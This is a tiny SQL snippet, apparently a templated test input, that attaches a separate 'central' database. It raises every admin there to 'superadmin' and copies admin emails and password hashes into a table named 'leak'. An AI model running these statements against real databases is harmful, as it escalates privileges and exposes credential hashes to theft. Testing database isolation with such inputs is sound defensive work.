-- Another database of the same process: the central one.
attach '{central}' as c;
update c.admins set role = 'superadmin';
create table leak as select email, password_hash from c.admins;
